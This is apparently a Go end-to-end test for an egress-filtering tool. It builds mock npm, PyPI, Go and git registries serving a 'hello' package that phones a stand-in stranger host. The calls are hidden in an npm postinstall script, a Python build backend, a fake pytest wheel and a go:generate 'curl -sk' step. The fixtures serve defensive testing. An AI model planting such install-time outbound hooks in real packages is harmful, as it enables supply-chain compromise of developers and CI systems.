// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/internal/world"
)

// Registries of packages, each with a package "hello" that is installed, and tries to tell
// the stranger about it.

// stealJS and stealPy go where no list leads, by name and by address, and don't mind that
// they fail.
const (
	stealJS = `const https = require("https"), net = require("net"), quiet = () => {};
https.get("https://` + world.Stranger + `/npm", {rejectUnauthorized: false}, r => r.resume()).on("error", quiet);
net.connect(443, "` + world.StrangerV4 + `").on("connect", function () { this.destroy() }).on("error", quiet);
`
	stealPy = `import socket, ssl, urllib.request
for steal in (
    lambda: urllib.request.urlopen("https://` + world.Stranger + `/pip", context=ssl._create_unverified_context()).read(),
    lambda: socket.create_connection(("` + world.StrangerV4 + `", 443)).close(),
):
    try:
        steal()
    except OSError:
        pass
`
	stealSh = "curl -sk https://" + world.Stranger + "/sh; curl -sk https://" + world.StrangerV4 + "/; true\n"
	// backend builds a wheel, by the rules of PEP 517, without another package.
	backend = `import zipfile
def build_wheel(to, settings=None, metadata=None):
    name = "hello-1.0-py3-none-any.whl"
    with zipfile.ZipFile(to + "/" + name, "w") as z:
        z.writestr("hello/__init__.py", "text = 'hello'\n")
        z.writestr("hello-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n")
        z.writestr("hello-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("hello-1.0.dist-info/RECORD", "hello/__init__.py,,\nhello-1.0.dist-info/METADATA,,\nhello-1.0.dist-info/WHEEL,,\nhello-1.0.dist-info/RECORD,,\n")
    return name
`
)

// archive is a .tar.gz.
func archive(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, name := range sorted(files) {
		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name])), ModTime: time.Unix(1700000000, 0)}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(files[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// zipped is a .zip.
func zipped(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, name := range sorted(files) {
		f, err := w.Create(name)
		if err == nil {
			_, err = f.Write([]byte(files[name]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func sorted(files map[string]string) (names []string) {
	for name := range files {
		names = append(names, name)
	}
	slices.Sort(names)
	return names
}

// site serves files by their paths. A value that is a URL is a redirection.
type site map[string]string

func (s site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	text, ok := s[r.URL.Path]
	switch {
	case !ok:
		http.NotFound(w, r)
	case strings.HasPrefix(text, "https://"):
		http.Redirect(w, r, text, http.StatusFound)
	case strings.HasPrefix(text, "{"):
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, text)
	case strings.HasPrefix(text, "<"):
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, text)
	default:
		w.Header().Set("Content-Type", "application/octet-stream")
		fmt.Fprint(w, text)
	}
}

// goSum is how go.sum names files: the SHA-256 of a list of their SHA-256.
func goSum(files map[string]string) string {
	var list strings.Builder
	for _, name := range sorted(files) {
		fmt.Fprintf(&list, "%x  %s\n", sha256.Sum256([]byte(files[name])), name)
	}
	sum := sha256.Sum256([]byte(list.String()))
	return "h1:" + base64.StdEncoding.EncodeToString(sum[:])
}

// registries adds the sites of npm, pip, Go and git, as they are in the real world: Go's proxy
// sends who wants a big file elsewhere. It is what a project that uses them has in it.
func (n *node) registries(t *testing.T) map[string]string {
	t.Helper()
	tgz := archive(t, map[string]string{
		"package/package.json": `{"name":"hello","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}`, "package/steal.js": stealJS, "package/index.js": "",
	})
	sha := sha512.Sum512(tgz)
	dist := `"https://registry.npmjs.org/hello/-/hello-1.0.0.tgz","integrity":"sha512-` + base64.StdEncoding.EncodeToString(sha[:]) + `"`
	sdist := archive(t, map[string]string{
		"hello-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
		"hello-1.0/PKG-INFO":       "Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n", "hello-1.0/backend.py": backend + stealPy,
	})
	wheel := zipped(t, map[string]string{
		"pytest/__init__.py": "", "pytest/__main__.py": stealPy + "import hello, os\nprint('1 passed, CI is', os.environ.get('CI'))\n",
		"pytest-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: pytest\nVersion: 1.0\n",
		"pytest-1.0.dist-info/WHEEL":    "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		"pytest-1.0.dist-info/RECORD":   "",
	})
	const mod = "module example.com/hello\n\ngo 1.21\n"
	module := map[string]string{"example.com/hello@v1.0.0/go.mod": mod, "example.com/hello@v1.0.0/hello.go": "package hello\n\nconst Text = \"hello\"\n"}
	for i, s := range []struct {
		host  string
		files site
	}{
		{"registry.npmjs.org", site{
			"/hello/-/hello-1.0.0.tgz": string(tgz),
			"/hello":                   `{"name":"hello","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"hello","version":"1.0.0","hasInstallScript":true,"dist":{"tarball":` + dist + `}}}}`,
		}},
		{"pypi.org", site{
			"/simple/hello/":  "<a href='https://files.pythonhosted.org/hello-1.0.tar.gz'>hello-1.0.tar.gz</a>",
			"/simple/pytest/": "<a href='https://files.pythonhosted.org/pytest-1.0-py3-none-any.whl'>pytest-1.0-py3-none-any.whl</a>",
		}},
		{"files.pythonhosted.org", site{"/hello-1.0.tar.gz": string(sdist), "/pytest-1.0-py3-none-any.whl": string(wheel)}},
		{"proxy.golang.org", site{
			"/example.com/hello/@v/v1.0.0.info": `{"Version":"v1.0.0"}`, "/example.com/hello/@v/v1.0.0.mod": mod,
			"/example.com/hello/@v/v1.0.0.zip": "https://storage.googleapis.com/proxy-golang-org-prod/hello.zip",
		}},
		{"storage.googleapis.com", site{"/proxy-golang-org-prod/hello.zip": string(zipped(t, module))}},
		{"api.anthropic.com", site{"/v1/messages": `{"content":"clone the sample"}`}},
		{"github.com", n.repository(t)},
	} {
		at := byte(i + 1)
		if _, err := n.AddOrigin(world.OriginConfig{
			Names: []string{s.host}, V4: netip.AddrFrom4([4]byte{151, 101, 9, at}), Handler: s.files,
			V6: netip.AddrFrom16([16]byte{0x2a, 0x04, 0x4e, 0x42, 15: at}),
		}); err != nil {
			t.Fatal(err)
		}
	}
	n.DNS.SetA("paste.example", time.Minute, netip.MustParseAddr(world.StrangerV4))
	n.DNS.SetAAAA("paste.example", time.Minute, netip.MustParseAddr(world.StrangerV6))
	return map[string]string{
		"package.json": `{"name":"app","version":"1.0.0","scripts":{"test":"node test.js"},"dependencies":{"hello":"1.0.0"}}`,
		"package-lock.json": `{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{
"":{"name":"app","version":"1.0.0","dependencies":{"hello":"1.0.0"}},
"node_modules/hello":{"version":"1.0.0","hasInstallScript":true,"resolved":` + dist + `}}}`,
		"test.js":          stealJS + `require("fs").appendFileSync(process.env.GITHUB_STEP_SUMMARY, "tested\n")`,
		"requirements.txt": "hello==1.0\npytest==1.0\n",
		"go.mod":           "module app\n\ngo 1.21\n\nrequire example.com/hello v1.0.0\n",
		"go.sum":           "example.com/hello v1.0.0 " + goSum(module) + "\nexample.com/hello v1.0.0/go.mod " + goSum(map[string]string{"go.mod": mod}) + "\n",
		"main.go":          "package main\n\nimport \"example.com/hello\"\n\n//go:generate sh steal.sh\n\nfunc main() { println(hello.Text) }\n",
		"steal.sh":         stealSh,
		"Makefile":         "all:\n\tgo generate ./... && go build -o app . && ./app\n",
	}
}

// repository is a git repository, as files that git's clients read ("dumb" HTTP).
func (n *node) repository(t *testing.T) site {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "sample")
	git := exec.Command("sh", "-c", `git init -q -b main "$0" && cd "$0" && echo sample >README && git add README &&
git -c user.name=x -c user.email=x@example.com commit -q -m sample && git update-server-info`, dir)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	files := site{}
	err := filepath.Walk(filepath.Join(dir, ".git"), func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return err
		}
		text, err := os.ReadFile(path)
		files["/egressd/sample.git"+strings.TrimPrefix(path, filepath.Join(dir, ".git"))] = string(text)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}
